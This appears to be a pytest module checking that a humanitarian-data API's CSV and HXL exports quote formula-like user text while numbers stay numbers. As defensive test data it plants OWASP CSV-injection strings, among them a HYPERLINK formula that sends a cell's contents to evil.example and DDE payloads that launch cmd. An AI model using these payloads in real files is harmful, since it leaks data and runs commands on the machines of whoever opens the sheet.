"""The leak suite for spreadsheets: a text a user wrote never comes back as a live formula in
a CSV (with its HXL row) that a partner opens in Excel or LibreOffice; numbers stay numbers."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from httpx import AsyncClient

from tests import factories
from tests.test_exports import export
from tests.test_imports import upload

Headers = Callable[[str], dict[str, str]]

#: Texts a spreadsheet would run: OWASP's CSV injection starters, each in its own field.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
PLANTED = {
    "name": FORMULA,
    "acronym": "+cmd|' /C calc'!A0",
    "description": "@SUM(1+1)*cmd|' /C calc'!A0",
    "focal_point": "-2+3+cmd|' /C calc'!A0",
    "phone": "\t=1+1",
}
#: A carriage return in front, in a site's description.
RETURNED = "\r=1+1"


def rows_of(path: Path) -> tuple[list[str], list[str], list[dict[str, str]]]:
    """Header, HXL row and records of an exported CSV, read by the csv module."""
    with path.open(encoding="utf-8", newline="") as source:
        reader = csv.reader(source)
        header = next(reader)
        hashtags = next(reader)
        records = [dict(zip(header, row, strict=True)) for row in reader]
    return header, hashtags, records


@pytest.mark.parametrize("fmt", ["csv", "hxl"])
async def test_no_cell_of_a_csv_export_is_a_formula(
    client: AsyncClient, headers: Headers, tmp_path: Path, fmt: str
) -> None:
    made = await client.post(
        "/api/actors",
        json=factories.feature("actors", geometry=factories.point(-3.5, 5.25), **PLANTED),
        headers=headers("officer"),
    )
    assert made.status_code == 201, made.text
    plain = await client.post(
        "/api/actors",
        json=factories.feature("actors", name="-3.5", description="Hope - Relief"),
        headers=headers("officer"),
    )
    assert plain.status_code == 201, plain.text
    site = await client.post(
        "/api/idp_sites",
        json=factories.feature(
            "idp_sites", name=FORMULA, description=RETURNED, population_individuals=1200
        ),
        headers=headers("officer"),
    )
    assert site.status_code == 201, site.text

    path = await export(client, headers, tmp_path, "actors", "csv", user="officer", format=fmt)
    header, hashtags, records = rows_of(path)
    assert hashtags[header.index("name")].startswith("#"), "the HXL row is kept"
    by_id = {r["id"]: r for r in records}
    actor = by_id[made.json()["id"]]
    for field, text in PLANTED.items():
        # Shown as the text it is (a quote in front), never as a formula.
        assert actor[field] == "'" + text, field
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for record in records
        for name, cell in record.items()
        if name not in ("longitude", "latitude", "wkt") and not _is_number(cell)
    )
    # A negative coordinate, and a text that is a plain number, stay numbers.
    assert float(actor["longitude"]) == -3.5 and actor["longitude"].startswith("-")
    other = by_id[plain.json()["id"]]
    assert other["name"] == "-3.5"
    assert other["description"] == "Hope - Relief"

    sites = await export(client, headers, tmp_path, "idp_sites", "csv", user="officer")
    _, _, site_rows = rows_of(sites)
    (row,) = [r for r in site_rows if r["id"] == site.json()["id"]]
    assert row["name"] == "'" + FORMULA
    assert row["description"] == "'" + RETURNED
    assert row["population_individuals"] == "1200"


async def test_an_exported_csv_imported_back_keeps_its_texts(
    client: AsyncClient, headers: Headers, tmp_path: Path
) -> None:
    """The quote that keeps a spreadsheet from running a text is not taken for part of it
    (an import trims the spaces around a text, a tab included, so none is planted here)."""
    planted = {field: text for field, text in PLANTED.items() if not text[0].isspace()}
    made = await client.post(
        "/api/actors", json=factories.feature("actors", **planted), headers=headers("officer")
    )
    assert made.status_code == 201, made.text
    path = await export(client, headers, tmp_path, "actors", "csv")
    again = await upload(client, headers, path, user="admin", collection="actors")
    assert again.status_code == 201, again.text
    shown = await client.get(f"/api/actors/{made.json()['id']}", headers=headers("officer"))
    properties: dict[str, Any] = shown.json()["properties"]
    assert {field: properties[field] for field in planted} == planted
    assert (again.json()["created"], again.json()["updated"]) == (0, 0), again.json()


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
